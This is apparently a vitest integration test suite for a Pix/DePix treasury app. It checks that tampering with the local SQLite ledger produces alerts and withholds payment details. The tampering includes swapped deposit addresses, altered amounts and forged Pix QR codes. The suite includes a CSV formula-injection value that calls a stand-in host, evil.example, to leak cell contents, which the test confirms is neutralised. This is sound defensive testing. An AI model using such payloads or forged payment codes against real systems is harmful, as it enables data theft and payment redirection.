/**
 * Funding shown is funding checked (issue #24), through the real IPC router, the embedded sandbox and the desk's
 * SQLite file: a stored deposit address or amount changed behind the app (the file edited directly, as a hostile
 * process or a restored copy could) is a red alert with nothing payable on the Funding page, the wave's sheet and
 * its files; the service not answering shows nothing payable either; an untouched record is shown on the service's
 * answers this process already holds (its create's, the tracker's), else after one GET /withdraw-status.
 */
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { createAppContext, type AppContext } from '../../../src/main/app/context'
import { FUNDING_CHECK_TTL_MS } from '../../../src/main/withdrawals/funding-check'
import { generateLiquidAddress } from '../../../src/main/liquid'
import { createJsonFileStore } from '../../../src/main/profiles'
import { createMemoryVault } from '../../../src/main/secrets/vault'
import type { ChannelName, WithdrawalDetail } from '../../../src/shared/contract'
import type { FundingSheetView } from '../../../src/shared/channels-runs'

let dataDir: string
let ctx: AppContext
const dialogAnswers: string[] = []

async function call<T = unknown>(channel: ChannelName, input?: unknown): Promise<T> {
  const r = (await ctx.router.handle(channel, input)) as { ok: boolean; data?: T; error?: unknown }
  if (!r.ok) throw new Error(`${channel} failed: ${JSON.stringify(r.error)}`)
  return r.data as T
}

async function refused(channel: ChannelName, input?: unknown): Promise<{ code: string }> {
  const r = (await ctx.router.handle(channel, input)) as { ok: boolean; error?: { code: string } }
  expect(r.ok).toBe(false)
  return r.error as { code: string }
}

/** The desk's ledger file, edited by another connection: what a process with the user's file access can do. */
function tamper(sql: string, ...params: Array<string | number>): void {
  const db = new DatabaseSync(join(dataDir, 'ledger.sqlite'))
  try {
    db.exec('PRAGMA busy_timeout = 5000')
    const changed = db.prepare(sql).run(...params).changes
    expect(changed).toBeGreaterThan(0)
  } finally {
    db.close()
  }
}

const statusGets = (): number => ctx.sandbox!.control.requestCounts()['GET /api/withdraw-status'] ?? 0
const refund = generateLiquidAddress('liquid').address
const attacker = generateLiquidAddress('liquid').address

async function createWithdrawal(cents = 5_000): Promise<string> {
  const d = {
    pixKey: 'fulano@example.com',
    taxNumber: '52998224725',
    amount: { kind: 'payout', cents },
    refundAddress: refund,
  }
  const quote = await call<{ intent: { id: string } }>('withdrawals:quote', { draft: d })
  const created = await call<{ localId: string }>('withdrawals:create', {
    draft: d,
    intentId: quote.intent.id,
  })
  return created.localId
}

beforeEach(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'funding-check-'))
  ctx = await createAppContext({
    dataDir,
    vault: createMemoryVault(),
    store: createJsonFileStore(join(dataDir, 'settings.json')),
    app: { name: 'Tesouraria DePix', version: '0.0.0-test', platform: 'linux' },
    operator: 'tester',
    trackerAutoStart: false,
    ports: {
      chooseDirectory: () => Promise.resolve(dialogAnswers.shift() ?? null),
      openExternal: () => Promise.resolve(),
    },
  })
  await call('session:signIn')
})

afterEach(async () => {
  await ctx.close()
  rmSync(dataDir, { recursive: true, force: true })
})

describe('the Funding page', () => {
  it('an untouched record: instructions shown, confirmed by the answers this process already holds', async () => {
    const localId = await createWithdrawal()
    const before = statusGets()
    const detail = await call<WithdrawalDetail>('withdrawals:get', { localId })
    expect(detail.fundingProblem).toBeNull()
    expect(detail.fundingAlert).toBeNull()
    expect(detail.funding?.address).toBe(detail.record.depositAddress)
    // The create's own answer named the address and amount: no status read for this showing or the next.
    expect(statusGets()).toBe(before)
    await call('withdrawals:get', { localId })
    expect(statusGets()).toBe(before)
  })

  it('a deposit address rewritten in the file: red alert, no address, no QR, no amount to pay', async () => {
    const localId = await createWithdrawal()
    const genuine = (await call<WithdrawalDetail>('withdrawals:get', { localId })).record.depositAddress
    tamper('UPDATE withdrawals SET deposit_address = ? WHERE local_id = ?', attacker, localId)
    const detail = await call<WithdrawalDetail>('withdrawals:get', { localId })
    // The stored address is not shown anywhere, not even among the record's facts.
    expect(detail.record.depositAddress).toBeNull()
    expect(JSON.stringify(detail)).not.toContain(attacker)
    expect(detail.funding).toBeNull()
    expect(detail.fundingProblem).toBe('funding_mismatch')
    expect(detail.fundingAlert).toEqual({ kind: 'mismatch', fields: ['deposit_address'], reason: null })
    // Nothing the renderer receives carries a payable QR or URI for either address.
    const wire = JSON.stringify(detail)
    expect(wire).not.toContain('liquidnetwork:')
    expect(wire).not.toContain('<svg')
    expect(genuine).not.toBe(attacker)
  })

  it('an amount rewritten in the file: the amount is named', async () => {
    const localId = await createWithdrawal()
    tamper(
      'UPDATE withdrawals SET deposit_amount_cents = deposit_amount_cents + 100 WHERE local_id = ?',
      localId,
    )
    const detail = await call<WithdrawalDetail>('withdrawals:get', { localId })
    expect(detail.funding).toBeNull()
    expect(detail.fundingAlert).toEqual({ kind: 'mismatch', fields: ['deposit_amount'], reason: null })
  })

  it('the service not answering: nothing payable, said as unconfirmed', async () => {
    const localId = await createWithdrawal()
    // Past the age of the create's own answer (FUNDING_CHECK_TTL_MS), the showing must ask the service again.
    await new Promise((r) => setTimeout(r, FUNDING_CHECK_TTL_MS + 500))
    ctx.sandbox!.control.setMaintenance(true)
    const detail = await call<WithdrawalDetail>('withdrawals:get', { localId })
    expect(detail.funding).toBeNull()
    expect(detail.fundingProblem).toBe('funding_unconfirmed')
    expect(detail.fundingAlert).toMatchObject({ kind: 'unconfirmed', fields: [], reason: 'maintenance' })
    ctx.sandbox!.control.setMaintenance(false)
    expect((await call<WithdrawalDetail>('withdrawals:get', { localId })).funding).not.toBeNull()
  }, 60_000)
})

describe("a wave's funding sheet and its files", () => {
  async function waveOfTwo(): Promise<{ runId: string; localIds: string[] }> {
    await call('profiles:setDefaultRefundAddress', { address: refund })
    const csv = [
      'Favorecido;Chave Pix;CPF/CNPJ;Valor do Pix (R$)',
      'Beltrano;beltrano@example.com;52998224725;25,00',
      'Cicrano;cicrano@example.com;52998224725;30,00',
    ].join('\r\n')
    const imported = await call<{ runId: string | null; issues: unknown[] }>('runs:import', {
      name: 'lote.csv',
      contentBase64: Buffer.from(csv).toString('base64'),
    })
    expect(imported.issues).toEqual([])
    const runId = imported.runId as string
    const detail = await call<{ summary: { payoutCents: number } }>('runs:get', { runId })
    await call('runs:approve', { runId, confirmPayoutCents: detail.summary.payoutCents })
    await call('runs:startWave', { runId })
    await ctx.router.handle('runs:get', { runId })
    // The wave's creates run in the background: wait until both rows have their payment.
    const db = (): Array<{ local_id: string | null }> => {
      const d = new DatabaseSync(join(dataDir, 'ledger.sqlite'), { readOnly: true })
      try {
        return d.prepare('SELECT local_id FROM run_rows WHERE run_id = ? ORDER BY idx').all(runId) as Array<{
          local_id: string | null
        }>
      } finally {
        d.close()
      }
    }
    const until = Date.now() + 10_000
    while (
      db().some((r) => r.local_id === null) ||
      (await call<{ run: { state: string } }>('runs:get', { runId })).run.state !== 'awaiting_funding'
    ) {
      if (Date.now() > until) throw new Error('wave not created')
      await new Promise((r) => setTimeout(r, 50))
    }
    return { runId, localIds: db().map((r) => r.local_id as string) }
  }

  async function saveTo(runId: string): Promise<string> {
    const dir = join(dataDir, `sheet-${Math.random().toString(36).slice(2)}`)
    mkdirSync(dir)
    dialogAnswers.push(dir)
    const { token } = await call<{ token: string }>('dialog:chooseFolder', { purpose: 'export' })
    await call('runs:saveSheet', { runId, wave: 1, folder: token })
    return dir
  }

  it('untouched: lines, files; a deadline that is a formula lands quoted and neutralised in the CSV', async () => {
    const { runId, localIds } = await waveOfTwo()
    tamper(
      'UPDATE withdrawals SET expiration = ? WHERE local_id = ?',
      'x,=HYPERLINK("http://evil.example/?"&A1,"ok")',
      localIds[0] as string,
    )
    const sheet = await call<FundingSheetView>('runs:sheet', { runId, wave: 1 })
    expect(sheet.filesProblem).toBeNull()
    expect(sheet.lines).toHaveLength(2)
    const dir = await saveTo(runId)
    const csvName = readdirSync(dir).find((f) => f.endsWith('.csv')) as string
    const csv = readFileSync(join(dir, csvName), 'utf8')
    const lines = csv.trimEnd().split('\r\n')
    expect(lines[0]).toBe('"address","amount","asset_id","deadline","line","local_id"')
    expect(lines).toHaveLength(3)
    // Every cell quoted; the formula after the comma neutralised, so no reader starts a cell with `=`.
    expect(csv).toContain(`"x,'=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`)
    expect(csv).not.toMatch(/(^|[,\r\n])"?=/)
  })

  it('one row rewritten: the sheet shows no address and no QR, and its files are refused', async () => {
    const { runId, localIds } = await waveOfTwo()
    tamper('UPDATE withdrawals SET deposit_address = ? WHERE local_id = ?', attacker, localIds[1] as string)
    const sheet = await call<FundingSheetView>('runs:sheet', { runId, wave: 1 })
    expect(sheet.filesProblem).toBe('funding_unconfirmed')
    expect(sheet.lines).toEqual([])
    expect(sheet.totalCents).toBe(0)
    expect(sheet.command).toBeNull()
    expect(sheet.problems.map((p) => p.problem).sort()).toEqual(['funding_mismatch', 'wave_unconfirmed'])
    const wire = JSON.stringify(sheet)
    expect(wire).not.toContain(attacker)
    expect(wire).not.toContain('liquidnetwork:')
    const dir = join(dataDir, 'refused')
    mkdirSync(dir)
    dialogAnswers.push(dir)
    const { token } = await call<{ token: string }>('dialog:chooseFolder', { purpose: 'export' })
    expect((await refused('runs:saveSheet', { runId, wave: 1, folder: token })).code).toBe(
      'sheet_unavailable',
    )
    expect(readdirSync(dir)).toEqual([])
  })
})

describe("a top-up's QR", () => {
  /** A valid BR Code (CRC holds) paying a static Pix key: what someone would put in place of the service's. */
  function staticBrCode(key: string, cents: number): string {
    const tlv = (id: string, v: string): string => `${id}${String(v.length).padStart(2, '0')}${v}`
    const amount = `${Math.floor(cents / 100)}.${String(cents % 100).padStart(2, '0')}`
    const body = `${tlv('00', '01')}${tlv('26', tlv('00', 'br.gov.bcb.pix') + tlv('01', key))}${tlv('52', '0000')}${tlv('53', '986')}${tlv('54', amount)}${tlv('58', 'BR')}${tlv('59', 'ALGUEM')}${tlv('60', 'SAO PAULO')}6304`
    let crc = 0xffff
    for (let i = 0; i < body.length; i++) {
      crc ^= body.charCodeAt(i) << 8
      for (let b = 0; b < 8; b++) crc = crc & 0x8000 ? ((crc << 1) ^ 0x1021) & 0xffff : (crc << 1) & 0xffff
    }
    return body + crc.toString(16).toUpperCase().padStart(4, '0')
  }
  const depositGets = (): number => ctx.sandbox!.control.requestCounts()['GET /api/deposit-status'] ?? 0

  async function createDeposit(amountCents = 50_000): Promise<string> {
    const d = { amountCents, depixAddress: refund, endUserTaxNumber: '52998224725' }
    const quote = await call<{ intent: { id: string } }>('deposits:quote', { draft: d })
    return (await call<{ localId: string }>('deposits:create', { draft: d, intentId: quote.intent.id }))
      .localId
  }
  type Detail = { qr: { payload: string; svg: string | null } | null; qrAlert: unknown }

  it('untouched: the QR after one status read', async () => {
    const localId = await createDeposit()
    const before = depositGets()
    const detail = await call<Detail>('deposits:get', { localId })
    expect(detail.qrAlert).toBeNull()
    expect(detail.qr?.svg).toContain('<svg')
    expect(depositGets()).toBe(before + 1)
  })

  it('the payload swapped in the file for another key, same amount: refused, no payload sent', async () => {
    const localId = await createDeposit()
    const swapped = staticBrCode('atacante@example.com', 50_000)
    tamper('UPDATE deposits SET qr_copy_paste = ? WHERE local_id = ?', swapped, localId)
    const detail = await call<Detail>('deposits:get', { localId })
    expect(detail.qr).toBeNull()
    expect(detail.qrAlert).toEqual({ kind: 'mismatch', fields: ['qr_payload'], reason: null })
    expect(JSON.stringify(detail)).not.toContain('atacante@example.com')
  })

  it('payload and create answer rewritten with another amount: the service’s amount refutes it', async () => {
    const localId = await createDeposit()
    const swapped = staticBrCode('atacante@example.com', 5_000)
    tamper(
      "UPDATE deposits SET qr_copy_paste = ?, create_response = json_set(create_response, '$.qrCopyPaste', ?) WHERE local_id = ?",
      swapped,
      swapped,
      localId,
    )
    const detail = await call<Detail>('deposits:get', { localId })
    expect(detail.qr).toBeNull()
    expect(detail.qrAlert).toEqual({ kind: 'mismatch', fields: ['qr_amount'], reason: null })
    expect(JSON.stringify(detail)).not.toContain('atacante@example.com')
  })

  it('the amount rewritten in the file: refused; the service away: unconfirmed, nothing payable', async () => {
    const localId = await createDeposit()
    tamper('UPDATE deposits SET amount_cents = 5000, value_cents = NULL WHERE local_id = ?', localId)
    expect((await call<Detail>('deposits:get', { localId })).qrAlert).toEqual({
      kind: 'mismatch',
      fields: ['deposit_amount'],
      reason: null,
    })
    const other = await createDeposit(60_000)
    ctx.sandbox!.control.setMaintenance(true)
    const away = await call<Detail>('deposits:get', { localId: other })
    ctx.sandbox!.control.setMaintenance(false)
    expect(away.qr).toBeNull()
    expect(away.qrAlert).toMatchObject({ kind: 'unconfirmed', reason: 'maintenance' })
  })
})
